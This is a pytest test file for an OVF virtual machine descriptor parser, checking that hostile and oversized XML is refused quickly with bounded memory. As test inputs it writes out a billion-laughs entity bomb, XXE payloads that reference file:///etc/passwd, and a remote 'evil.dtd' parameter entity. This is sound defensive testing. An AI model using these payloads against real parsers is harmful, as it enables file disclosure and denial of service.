"""Hostile and malformed XML is refused quickly, with bounded memory, and the message names the problem."""

from __future__ import annotations

import time
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import pytest

from vmshift.conversion import OvfError, XmlLimits, parse_ovf, read_ovf, read_ovf_stream
from vmshift.conversion.ovfitems import units_to_bytes

MiB = 1024 * 1024
OVF1 = "http://schemas.dmtf.org/ovf/envelope/1"
RASD = "http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/CIM_ResourceAllocationSettingData"
ENVELOPE = f'<Envelope xmlns="{OVF1}" xmlns:ovf="{OVF1}" xmlns:rasd="{RASD}">'
#: Generous: every refusal here takes milliseconds; the bound only catches a runaway.
QUICK_SECONDS = 5.0


def refused(call: Callable[[], object]) -> str:
    start = time.monotonic()
    with pytest.raises(OvfError) as err:
        call()
    assert time.monotonic() - start < QUICK_SECONDS
    return str(err.value)


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n'
              for i in range(1, 10))
    + f"]>\n{ENVELOPE}&lol9;</Envelope>"
)


def test_billion_laughs_is_refused_at_the_first_entity_declaration() -> None:
    message = refused(lambda: parse_ovf(BILLION_LAUGHS))
    assert "declares an entity 'lol'" in message
    assert "entity declarations are refused" in message
    assert "line 3" in message


def test_external_entity_is_refused_and_never_read() -> None:
    doc = f'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n{ENVELOPE}&xxe;</Envelope>'
    message = refused(lambda: parse_ovf(doc))
    assert "external entity 'xxe' pointing at 'file:///etc/passwd'" in message
    assert "root:" not in message


def test_parameter_entity_is_refused() -> None:
    doc = f'<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://198.51.100.7/evil.dtd"> %remote;]>{ENVELOPE}</Envelope>'
    assert "entity 'remote'" in refused(lambda: parse_ovf(doc))


@pytest.mark.parametrize(
    ("doctype", "expected"),
    [
        ("<!DOCTYPE Envelope>", "document type declaration <!DOCTYPE Envelope>"),
        ("<!DOCTYPE Envelope [<!ELEMENT Envelope ANY>]>", "document type declaration (DTD)"),
        ('<!DOCTYPE Envelope SYSTEM "http://198.51.100.7/ovf.dtd">', "external DTD"),
        ('<!DOCTYPE Envelope PUBLIC "-//x//y" "file:///etc/passwd">', "external DTD"),
    ],
)
def test_any_dtd_is_refused(doctype: str, expected: str) -> None:
    message = refused(lambda: parse_ovf(f'<?xml version="1.0"?>{doctype}{ENVELOPE}</Envelope>'))
    assert expected in message
    assert "needs no DTD" in message


def test_deep_nesting_is_refused_at_the_depth_limit() -> None:
    depth = 200_000
    doc = ENVELOPE + "<a>" * depth + "</a>" * depth + "</Envelope>"
    message = refused(lambda: parse_ovf(doc))
    assert "nest deeper than 64 levels" in message
    assert "/Envelope/a/a" in message


def test_too_many_elements_is_refused() -> None:
    doc = ENVELOPE + "<a/>" * 30_000 + "</Envelope>"
    assert "more than 20000 elements" in refused(lambda: parse_ovf(doc))


def test_not_well_formed_names_line_and_column() -> None:
    doc = f'<?xml version="1.0"?>\n{ENVELOPE}\n  <References>\n</Envelope>'
    message = refused(lambda: parse_ovf(doc, source="broken.ovf"))
    assert message.startswith("OVF descriptor broken.ovf refused: not well-formed XML: mismatched tag")
    assert "line 4, column 2" in message


@pytest.mark.parametrize(
    ("doc", "expected"),
    [
        ("", "holds no element"),
        ("<Envelope/>", "the root element is Envelope, not an OVF Envelope"),
        ('<x:Envelope xmlns:x="urn:other"/>', "{urn:other}Envelope"),
        (f"{ENVELOPE}</Envelope>", "holds no VirtualSystem"),
        (f"{ENVELOPE}<VirtualSystem/></Envelope>", "no VirtualHardwareSection"),
    ],
)
def test_not_an_ovf_descriptor(doc: str, expected: str) -> None:
    assert expected in refused(lambda: parse_ovf(doc))


def _write_100_mb(path: Path, unit: bytes, opening: bytes = b"") -> int:
    """A 100 MB descriptor: an envelope, ``opening``, then ``unit`` repeated, written in 1 MiB blocks."""
    head = f'<?xml version="1.0"?>{ENVELOPE}<VirtualSystem><VirtualHardwareSection>'.encode() + opening
    block = unit * max(1, MiB // len(unit))
    with path.open("wb") as f:
        f.write(head)
        for _ in range(100 * MiB // len(block) + 1):
            f.write(block)
    return path.stat().st_size


def _peak(call: Callable[[], object]) -> tuple[str, int, float]:
    tracemalloc.start()
    start = time.monotonic()
    try:
        with pytest.raises(OvfError) as err:
            call()
        elapsed = time.monotonic() - start
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return str(err.value), peak, elapsed


def test_100_mb_file_is_refused_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "huge.ovf"
    size = _write_100_mb(path, b"<Item><rasd:ResourceType>17</rasd:ResourceType></Item>\n")
    assert size > 100 * MiB
    message, peak, elapsed = _peak(lambda: read_ovf(path))
    assert f"the file holds {size} bytes" in message
    assert "larger than the limit of 8388608 bytes (8 MiB)" in message
    assert peak < 1 * MiB
    assert elapsed < QUICK_SECONDS


@pytest.mark.parametrize(
    ("opening", "unit", "expected", "bound"),
    [
        # one long text: only the byte limit stops it, after 8 MiB read in 64 KiB chunks; text is
        # delivered in pieces and at most 64 KiB of it is kept
        (b"<Info>", b"x" * 4096, "larger than the limit of 8388608 bytes", 2 * MiB),
        # many small elements: the element limit stops it first
        (b"", b"<Item><rasd:ResourceType>17</rasd:ResourceType></Item>\n", "more than 20000 elements", 16 * MiB),
        # one endless attribute value: expat must hold the whole token, up to the 8 MiB read
        (b'<Info ovf:x="', b"x" * 4096, "larger than the limit of 8388608 bytes", 32 * MiB),
    ],
    ids=["long-text", "many-elements", "endless-attribute"],
)
def test_100_mb_stream_is_refused_with_bounded_memory(tmp_path: Path, opening: bytes, unit: bytes, expected: str,
                                                      bound: int) -> None:
    path = tmp_path / "huge.ovf"
    assert _write_100_mb(path, unit, opening) > 100 * MiB
    with path.open("rb") as stream:
        message, peak, elapsed = _peak(lambda: read_ovf_stream(stream))
    assert expected in message
    assert peak < bound, f"peak traced memory {peak / MiB:.1f} MiB"
    assert elapsed < 4 * QUICK_SECONDS  # tracemalloc slows allocation down several times


def test_oversized_inline_text_is_refused_before_parsing() -> None:
    doc = ENVELOPE + " " * (9 * MiB) + "</Envelope>"
    message, peak, _ = _peak(lambda: parse_ovf(doc))
    assert "larger than the limit" in message and "characters" in message
    assert peak < 1 * MiB


def test_limits_can_be_tightened() -> None:
    doc = ENVELOPE + "<a><b><c/></b></a></Envelope>"
    assert "deeper than 2 levels" in refused(lambda: parse_ovf(doc, limits=XmlLimits(max_depth=2)))
    assert "larger than the limit of 10 bytes" in refused(lambda: parse_ovf(doc, limits=XmlLimits(max_bytes=10)))


@pytest.mark.parametrize(
    ("units", "value"),
    [("byte", 1), ("byte * 2^20", MiB), ("byte*2^30", 1024 * MiB), ("MegaBytes", MiB), ("KB", 1024),
     ("GigaBytes", 1024 * MiB), ("byte * 10^9", 10**9), ("bytes * 2^10 * 2^10", MiB)],
)
def test_units(units: str, value: int) -> None:
    assert units_to_bytes(units) == value


@pytest.mark.parametrize("units", ["hertz * 10^6", "byte * 2^99999999", "byte * 99999^999", "", "byte * -2^3"])
def test_absurd_or_foreign_units_are_refused_quickly(units: str) -> None:
    start = time.monotonic()
    with pytest.raises(ValueError):
        units_to_bytes(units)
    assert time.monotonic() - start < 0.1


@pytest.mark.parametrize("encoding", ["tf-8", "no-such-codec", "x" * 40])
def test_an_unknown_encoding_is_refused_as_an_ovf_error(encoding: str) -> None:
    """Found by tests/fuzz: a descriptor declaring an encoding Python does not know raised LookupError
    out of the parser, which the import controller does not catch."""
    data = f"<?xml version='1.0' encoding='{encoding}'?><Envelope/>".encode()
    with pytest.raises(OvfError, match="encoding"):
        parse_ovf(data)
